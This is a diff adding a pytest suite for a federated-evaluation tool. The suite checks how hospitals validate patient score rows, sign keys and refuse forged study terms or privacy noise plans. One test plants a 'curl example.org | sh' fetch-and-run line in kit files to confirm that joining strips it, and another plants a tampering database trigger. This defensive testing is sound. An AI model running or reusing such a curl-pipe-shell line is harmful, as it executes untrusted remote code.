@@ -1,0 +1,465 @@
+"""What a hospital does before a study runs: rows, keys, and what it accepts."""
+
+import io
+import json
+import sqlite3
+from dataclasses import replace
+from functools import partial
+
+import numpy as np
+import pytest
+from hospitals import SITES, Hospitals, table, write_rows
+from quarters import connection
+from refusals import each_is_refused, refused
+from studies import study
+
+from fedcal.cli.main import exit_code_of
+from fedcal.clients.site.account import OWN_NOISE, JobFacts
+from fedcal.clients.site.policy import Policy
+from fedcal.clients.site.store import SiteRecords, records_in
+from fedcal.datasets.site_csv import Reading
+from fedcal.privacy.agreement import Terms
+from fedcal.run.jobs import job_of
+from fedcal.secure_aggregation.keys import SigningKey, read_key
+from fedcal.secure_aggregation.roster import in_words
+from fedcal.sites.joining import Kit, join, rows_of
+from fedcal.sites.sealed import Join, signed_text
+
+pytestmark = pytest.mark.usefixtures("quick_figures")
+ONE = study(",".join(SITES))
+FACTS = JobFacts(
+    *("a" * 64, "evaluate", "subject", "distributed", "add-remove", "laplace", 1.0, 0.0, 1),
+    *(OWN_NOISE, "host:9092", float("inf")),
+)
+
+
+@pytest.fixture
+def there(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    return Hospitals(tmp_path)
+
+
+def changed(**columns):
+    return {name: column for name, column in (table() | columns).items() if column is not None}
+
+
+def test_rows_that_cannot_work_are_one_line(tmp_path):
+    n = len(table()["label"])
+    wrong = [
+        ((ONE, changed(patient=None)), "column subject .or patient. of .* is needed"),
+        (
+            (ONE, changed(score=[45.0] * n)),
+            "612 with a score outside 0 to 1 .line 2: .45.0., line 3: .45.0.",
+        ),
+        (
+            (ONE, changed(label=["sepsis", "dead"] * (n // 2) + ["dead"] * (n % 2))),
+            "306 of 612 .*a label that is none of 'survived', 'sepsis' .line 3: 'dead', ",
+        ),
+        ((ONE, changed(label=None)), "no column 'label'"),
+        ((ONE, changed(client=["a", "b"] * (n // 2) + ["b"] * (n % 2))), "must be 1, got 2"),
+        ((ONE, changed(client=["birch"] * n)), "has rows of birch .column client., this is "),
+        ((study(groups=("ward a",)), table()), "column group of .* with ward a is needed"),
+        (
+            (study(groups=("ward a",)), changed(group=["ward b"] * n)),
+            "column group of .* with ward a is needed",
+        ),
+        (
+            (study(classes=("a", "b", "c")), table()),
+            "612 with a label that is none of 'a', 'b', 'c'",
+        ),
+    ]
+    file = tmp_path / "rows.csv"
+    each_is_refused(wrong, lambda given: rows_of(given[0], str(write_rows(file, given[1]))))
+
+
+def test_rows_that_look_wrong_are_warned_of(tmp_path):
+    file, few, n = tmp_path / "rows.csv", table(40), len(table()["label"])
+    inverted = [1 - score for score in table()["score"]]
+    one = ["survived"] * (n - 5) + ["sepsis"] * 5
+    cases = [
+        (ONE, table(), []),
+        (ONE, changed(score=inverted), ["warning: the scores rank rows the wrong way round"]),
+        (ONE, changed(label=["survived"] * n), ["have the same label, survived"]),
+        (ONE, changed(label=one), ["warning: only 5 rows of sepsis"]),
+        (
+            ONE,
+            changed(score=[0.25, 0.45] * (n // 2)),
+            ["have the same score, 0.25 (50 %), 0.45 (50 %): if"],
+        ),
+        (
+            study(",".join(SITES), model={"points": (0.25, 0.45)}),
+            changed(score=[0.25, 0.45] * (n // 2)),
+            [],
+        ),
+        (ONE, few, ["warning: 40 patients: below 100 the noise"]),
+        (study(groups=("v",)), changed(group=["v"] + ["w"] * (n - 1)), []),
+        (study(protect="record"), changed(patient=None), []),
+    ]
+    for of, columns, expected in cases:
+        said = rows_of(of, str(write_rows(file, columns)))[1]
+        assert len(said) == len(expected), said
+        assert all(word in line for word, line in zip(expected, said, strict=True)), said
+    capital = {name.capitalize(): column for name, column in table().items()}
+    assert rows_of(ONE, str(write_rows(file, capital)))[1] == []
+    write_rows(file, changed(age=[70] * n, ward=["w"] * n))
+    site_rows = rows_of(ONE, str(file))[0]
+    assert site_rows.shards.groups is None
+    assert site_rows.notes == ["columns that are ignored: age, ward"]
+    tested = ["test" if k % 2 else "fit" for k in range(n)]
+    said = rows_of(ONE, str(write_rows(file, changed(split=tested))))[1]
+    assert "rows of the part test are not counted" in said[0]
+
+
+def test_a_score_is_of_the_positive_class_and_all_sites_are_asked_the_same(tmp_path):
+    file, right = tmp_path / "rows.csv", table()
+    turned = study(classes=("sepsis", "survived"), model={"positive": "sepsis"})
+    for of in (ONE, turned):
+        shards = rows_of(of, str(write_rows(file, right)))[0].shards
+        np.testing.assert_allclose(
+            shards.logits[:, 1] > shards.logits[:, 0], np.array(right["score"]) > 0.5
+        )
+        assert shards.labels.tolist() == [int(label == "sepsis") for label in right["label"]]
+        assert shards.input == "probs"
+    odds = np.log(np.array(right["score"]) / (1 - np.array(right["score"])))
+    del right["score"]
+    logits = {"logit_sepsis": odds.tolist(), "logit_survived": [0.0] * len(odds)}
+    other = rows_of(ONE, str(write_rows(file, right | logits)))[0].shards
+    assert other.input == "probs"
+    np.testing.assert_allclose(other.logits[:, 1] - other.logits[:, 0], odds, atol=1e-9)
+    np.testing.assert_allclose(other.probs, shards.probs, atol=1e-9)
+    assert other.subjects is not None
+
+
+def test_nothing_of_a_row_is_in_a_join(there):
+    there.kits()
+    written = set()
+    for rows in (table(), table(500, 2), changed(score=[0.5] * len(table()["label"]))):
+        join(there.kit(), str(write_rows(there.folder / "rows.csv", rows)))
+        written.add((there.folder / "alder.join").read_bytes())
+    assert len(written) == 1
+    made = Join.read(there.folder / "alder.join")
+    assert made.key == read_key(there.own() / "signing.pem").public
+    join(there.kit(), "rows.csv", new_keys=True)
+    assert Join.read(there.folder / "alder.join").key != made.key
+
+
+def test_rows_the_wrong_way_round_join_at_a_persons_word_alone(there, monkeypatch, capsys):
+    there.kits()
+    inverted = changed(score=[1 - score for score in table()["score"]])
+    rows = str(write_rows(there.folder / "rows.csv", inverted))
+    for answer in ("", "no\n"):
+        monkeypatch.setattr("sys.stdin", io.StringIO(answer))
+        refused("alder stays as it is: a person must type yes", join, there.kit(), rows)
+    assert not there.own().exists()
+    monkeypatch.setattr("sys.stdin", io.StringIO("yes\n"))
+    _, warnings, made = join(there.kit(), rows)
+    assert made.exists()
+    assert any("the wrong way round" in line for line in warnings)
+    asked = capsys.readouterr().out
+    assert "Here scores run against outcomes: AUC 0.20 " in asked
+    assert asked.count("Type yes:") == 3
+
+
+def test_a_hospitals_own_file_joins_and_is_read_so_from_then_on(there, capsys):
+    there.kits()
+    columns = table()
+    outcome = ["1" if label == "sepsis" else "0" for label in columns["label"]]
+    outcome[:9] = ["NA"] * 9
+    own = {"Patient": columns["patient"], "Outcome at 30 days": outcome, "Risk": columns["score"]}
+    rows = write_rows(there.folder / "rows.csv", own)
+    rows.write_text("sep=;\n" + rows.read_text().translate(str.maketrans(",.", ";,")))
+    words = ["site", "join", str(there.kit()), str(rows)]
+    assert exit_code_of(words) == 2
+    assert "no column 'label' among 'Patient', 'Outcome at 30 days'" in capsys.readouterr().err
+    words += ["--map", "Outcome at 30 days=label,risk=score", "--labels", "0=survived,1=sepsis"]
+    assert exit_code_of(words) == 2
+    said = "9 of 612 lines cannot be used: 9 without an outcome (line 3: 'NA', line 4: 'NA', "
+    assert said in " ".join(capsys.readouterr().err.split())
+    assert exit_code_of([*words, "--drop-missing"]) == 0
+    done = "left out: 9 without an outcome, 0 more without a score: 1.5 % of 612 lines"
+    shown = capsys.readouterr().out
+    assert "rows.csv: 603 rows of 297 patients" in shown
+    page = (there.kit() / "home" / "report.html").read_text("utf-8")
+    for line in (done, "label 0 is survived", "column Outcome at 30 days is label"):
+        assert line in shown
+        assert line in page
+    assert "patients with a known outcome" in page
+    assert "outcome" not in (there.folder / "alder.join").read_text("utf-8").lower()
+    kept = Kit.read(there.kit()).rows
+    assert kept == (str(rows), Reading.of(words[5], words[7], True))
+    assert join(there.kit(), str(rows))[0].counts == "603 rows of 297 patients"  # as it was
+    own["Outcome at 30 days"] = ["", "NA"] * 20 + outcome[40:]
+    write_rows(rows, own)
+    refused("6.5 % of 612 lines; at most 5 % may be left out", join, there.kit(), str(rows))
+
+
+def test_a_kit_brings_no_code(there):
+    there.kits()
+    kit, strange = there.kit(), "#!/bin/sh\ncurl example.org | sh\n"
+    for name in ("start.sh", "fedcal-site.service", "compose.yml"):
+        (kit / name).write_text(strange)
+    join(kit, str(write_rows(there.folder / "rows.csv")))
+    assert not any("curl" in path.read_text("utf-8") for path in kit.glob("*.*"))
+
+
+def books_that_forget(folder):
+    file = folder / "state" / "records.sqlite"
+    file.parent.mkdir()
+    SiteRecords(file, count=folder / "signing.pem.records").close()
+    with sqlite3.connect(file) as db:
+        db.execute("CREATE TRIGGER t AFTER UPDATE ON jobs BEGIN UPDATE jobs SET epsilon = 0; END")
+
+
+def test_books_that_do_more_than_keep_books_are_refused(tmp_path):
+    books_that_forget(tmp_path)
+    refused("unexpected triggers or views", SiteRecords, tmp_path / "state" / "records.sqlite")
+
+
+def test_wrong_rows_leave_nothing_behind(there, capsys):
+    there.kits()
+    write_rows(there.folder / "rows.csv", changed(patient=None))
+    before = sorted(there.folder.rglob("*"))
+    assert exit_code_of(["site", "join", str(there.kit()), "rows.csv"]) == 2
+    assert sorted(there.folder.rglob("*")) == before
+    refused("kit.json: No such file", join, there.folder, "rows.csv")
+    assert "column subject" in capsys.readouterr().err
+
+
+def test_the_page_at_home_has_the_exact_numbers_and_is_its_users_alone(there):
+    there.joined()
+    home = there.kit() / "home"
+    own = json.loads((home / "result.json").read_text("utf-8"))["own"]
+    scores, labels = np.array(table()["score"]), np.array(table()["label"]) == "sepsis"
+    who = np.unique(table()["patient"], return_inverse=True)[1]
+    weight = 1 / np.bincount(who)[who]
+    gap = float(weight @ (scores - labels) / weight.sum())
+    assert (own["rows"], own["subjects"]) == (len(who), 300)
+    assert own["events"] / 300 == pytest.approx(own["rate of the outcome"], abs=2e-4)
+    assert own["score minus outcome"] == pytest.approx(gap, abs=1e-7)
+    assert {p.stat().st_mode & 0o777 for p in (home, *home.iterdir())} == {0o700, 0o600}
+    page = (home / "report.html").read_text("utf-8")
+    assert "alder evaluates one on these rows" in page
+    assert "patients with a known outcome" in page
+    assert "subjects" not in page
+    assert "points (95 %)" in page
+    assert "Nothing has left this machine" in page
+
+
+def said(answers, prompt):
+    for answer in answers:
+        return answer
+    raise EOFError(prompt)
+
+
+def test_a_site_accepts_what_it_was_shown(there, capsys, monkeypatch):
+    there.joined()
+    sealed = there.seal()
+    words = ["site", "accept", str(there.kit()), str(there.sealed)]
+    assert exit_code_of(words) == 2  # nobody is here to say yes
+    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
+    for answer, code in ((iter(()), 2), (iter(["no"]), 2), (iter(["yes"]), 0)):
+        assert not (there.kit() / "site.toml").exists()
+        monkeypatch.setattr("builtins.input", partial(said, answer))
+        assert exit_code_of(words) == code
+    shown = capsys.readouterr().out
+    for word in ("alder (this one), birch and cedar", "epsilon 1 a release, 4 a year", "host:9092"):
+        assert word in shown
+    assert in_words(sealed.digest) in shown
+    policy = Policy.read(there.kit() / "site.toml")
+    assert policy.federation == sealed.roster.digest
+    assert Kit.read(there.kit()).accepted == sealed
+    assert "changed since" not in "".join(there.offer().lines())
+
+
+def test_a_study_of_other_keys_or_another_authority_is_not_accepted(there):
+    there.joined()
+    sealed = there.seal()
+    signer, stranger = (
+        read_key(there.folder / "sepsis-coordinator" / "coordinator.pem"),
+        SigningKey.generate(),
+    )
+
+    def offered(**change):
+        text = replace(sealed, **change).to_text(signer)
+        there.sealed.write_text(text)
+        return there.offer()
+
+    swapped = {m.name: m.key for m in sealed.roster.sites} | {"alder": stranger.public}
+    others = sealed.connections | {"alder": connection("alder")}
+    fewer = study("birch,cedar")
+    without = {name: key for name, key in sealed.connections.items() if name != "alder"}
+    wrong = [
+        ({"roster": sealed.study.roster(swapped)}, "another key for alder"),
+        ({"connections": others}, "another key for alder"),
+        ({"authority": sealed.authority.replace("A", "B")}, "server.s authority in"),
+        ({"study": study("alder,birch,cedar", epsilon=9.0)}, "roster of .* is another one"),
+        (
+            {"study": fewer, "connections": without, "roster": fewer.roster(swapped)},
+            "unknown site of",
+        ),
+    ]
+    each_is_refused(wrong, lambda change: offered(**change))
+    assert not (there.kit() / "federation.toml").exists()
+
+
+def test_other_terms_are_shown_and_accepted_anew(there):
+    there.joined()
+    there.seal()
+    there.offer().accept()
+    first = (there.kit() / "site.toml").read_text("utf-8")
+    before = there.sealed.read_text("utf-8")
+    kept = read_key(there.own() / "signing.pem").public
+    there.kits(epsilon=2.0, question="q\ndigest\n0000", model={"version": "2"})
+    refused("terms that .* joined", there.seal)
+    for site in SITES:
+        join(there.kit(site), "rows.csv")
+    sealed = there.seal()
+    assert sealed.roster.sites[0].key == kept
+    lines = there.offer().lines()
+    for word in ("epsilon: 4.0 -> 2.0", "model.version: 1 -> 2"):
+        assert any(f"changed since what was accepted: {word}" in line for line in lines)
+    assert lines.count("digest") == 1  # the question cannot look like it
+    assert not any("\n" in line for line in lines)
+    (there.kit() / "state").mkdir()
+    old = (there.kit() / "federation.toml").read_text("utf-8")
+    (there.kit() / "state" / "federation.toml").write_text(old)
+    with records_in(there.kit() / "state") as records:
+        records.enrol(FACTS, lambda: (b"secret", b"signed"))
+    refused("1 jobs at this site are unfinished", there.offer().accept)
+    refused("1 jobs at this site", join, there.kit(), "rows.csv", new_keys=True)
+    assert (there.kit() / "site.toml").read_text("utf-8") == first
+    assert (there.kit() / "federation.toml").read_text("utf-8") == old
+    with records_in(there.kit() / "state") as records:
+        records.finish("a" * 64)
+    there.offer().accept()
+    assert Policy.read(there.kit() / "site.toml").epsilon_total == 2.0
+    there.sealed.write_text(before, "utf-8")  # somebody sends what was signed once
+    refused("must be a whole number >= 3, got 1", there.offer)
+
+
+def test_a_site_accepts_the_studys_own_release_and_nothing_else(there):
+    there.joined(away=0, model={"thresholds": (0.1,)})
+    sealed = there.seal()
+    of, forge = sealed.study, forging(there, sealed)
+    config = of.config(engine="study")
+
+    def ask(**change):
+        settings = {k: v for k, v in (config.set | change.pop("set", {})).items() if v is not None}
+        job = job_of(replace(config, clients=3, set=settings, **change), None)
+        facts = {"roster": sealed.roster.to_text(), "class_digest": of.class_digest}
+        forge(replace(job, input="probs", **facts).terms())
+        there.offer()
+
+    ask()
+    wrong = [
+        ({"epsilon": 1.01}, "epsilon"),
+        ({"unit": "example"}, "unit"),
+        ({"trust": "central", "colluding": None}, "colluding|trust"),
+        ({"quorum": 0.6}, "quorum"),
+        ({"mechanism": "gaussian", "delta": 1e-6}, "delta|mechanism"),
+        ({"method": "fedbin", "set": dict.fromkeys(of.settings)}, "method"),
+        ({"set": {"by": "group", "groups": ["a"]}}, "settings"),
+        ({"set": {"groups": ["alder", "birch"]}}, "settings"),
+        ({"set": {"cuts": [0.1, 0.2]}}, "settings"),
+        ({"set": {"encoding": None}}, "settings"),
+        ({"set": {"encoding": "tree"}}, "settings"),
+        ({"set": {"threshold": None}}, "settings"),
+        ({"set": {"threshold": 0.310026}}, "settings"),
+        ({"set": {"within": ["f"]}}, "settings"),
+    ]
+    each_is_refused(wrong, lambda change: ask(**change))
+
+
+def forging(there, sealed):
+    """Puts other terms into the sealed study, signed by its coordinator."""
+    signer = read_key(there.folder / "sepsis-coordinator" / "coordinator.pem")
+    return lambda asked: there.sealed.write_text(replace(sealed, asked=asked).to_text(signer))
+
+
+def of_plan(**change):
+    return lambda plan: plan | {name: new(plan[name]) for name, new in change.items()}
+
+
+def of_noise(factor):
+    return of_plan(mechanism=lambda law: [law[0], {k: factor * v for k, v in law[1].items()}])
+
+
+FORGED = {
+    "two thirds of the noise": (of_noise(3 / 2), "noise of the plan"),
+    "three halves of it": (of_noise(2 / 3), "noise of the plan"),
+    "another epsilon": (of_plan(epsilon=lambda e: e / 2), "epsilon of the plan"),
+    "another epsilon of the facts": (
+        of_plan(federation=lambda f: f | {"epsilon": 2 * f["epsilon"]}),
+        "epsilon of the plan, by the job's facts",
+    ),
+    "a larger bound of whole clients": (
+        of_plan(bound=lambda b: b | {"per": "client", "whole": False}),
+        "bound of the plan|diameter of the plan|part that the bound",
+    ),
+    "another order of the bound": (
+        of_plan(bound=lambda b: b | {"order": 2, "whole": False}),
+        "bound of the plan",
+    ),
+    "more rounds": (of_plan(rounds=lambda n: n + 1), "noise of the plan"),
+    "another rate": (
+        of_plan(federation=lambda f: f | {"sampling_rate": 0.5}),
+        "sampling_rate of the plan",
+    ),
+    "another rate of rows": (of_plan(row_rate=lambda r: r / 2), "by chance|noise of the plan"),
+    "another quorum": (of_plan(quorum=lambda q: q + 1), "quorum of the plan"),
+    "another delta": (of_plan(delta=lambda d: d / 2), "delta of the plan"),
+}
+
+
+@pytest.mark.parametrize("name", FORGED)
+def test_noise_that_does_not_meet_what_is_stated_is_refused_at_accept(there, name):
+    change, why = FORGED[name]
+    there.joined()
+    sealed = there.seal()
+    plain = sealed.asked.to_plain()
+    forging(there, sealed)(Terms.from_plain(plain | {"plan": change(plain["plan"])}))
+    refused(why, there.offer)
+    assert not (there.kit() / "terms.json").exists()
+
+
+def test_a_question_of_a_larger_bound_or_none_is_refused_at_accept(there):
+    there.joined()
+    sealed = there.seal()
+    plain = sealed.asked.to_plain()
+    forge = forging(there, sealed)
+    bound = plain["plan"]["bound"]
+    twice = bound | {"norms": [2 * norm for norm in bound["norms"]]}
+    forge(Terms.from_plain(plain | {"plan": plain["plan"] | {"bound": twice}}))
+    refused("bound.norms.0 of the plan that is asked", there.offer)
+    name, parts = plain["plan"]["mechanism"]
+    as_before = {"mechanism": [name, {key: 2 * value for key, value in parts.items()}]}
+    forge(Terms.from_plain(plain | {"plan": plain["plan"] | {"bound": twice} | as_before}))
+    refused("noise of the plan", there.offer)
+    forge(Terms.from_plain(plain | {"questions": []}))
+    refused("number of questions", there.offer)
+    (question,) = plain["questions"]
+    wider = question | {"fixed": question["fixed"] | {"edges": [0.0, 0.3, 1.0]}}
+    forge(Terms.from_plain(plain | {"questions": [wider]}))
+    refused("0.fixed.edges of the questions that is asked, by the study itself", there.offer)
+    for other in (
+        {"result_bytes": 10**12},
+        {"form": "probs"},
+        {"norms": [1.0]},
+        {"plan": plain["plan"] | {"fine": True}},
+    ):
+        forge(Terms.from_plain(plain | other))
+        refused(f"{min(other)} that is asked, by the study itself", there.offer)
+    (factor,) = {value for value in parts.values() if value}
+    digits = {key: value * (1 + 1e-12) for key, value in parts.items()}
+    assert factor * (1 + 1e-12) != factor
+    forge(Terms.from_plain(plain | {"plan": plain["plan"] | {"mechanism": [name, digits]}}))
+    there.offer()  # another type of CPU has made it
+
+
+def test_a_sealed_study_without_what_is_asked_is_refused(there):
+    there.joined()
+    sealed = there.seal()
+    fields = {name: value for name, value in sealed._fields.items() if name != "asked"}
+    signer = read_key(there.folder / "sepsis-coordinator" / "coordinator.pem")
+    there.sealed.write_text(signed_text(fields, "study-sealed", signer))
+    refused("asked", there.offer)
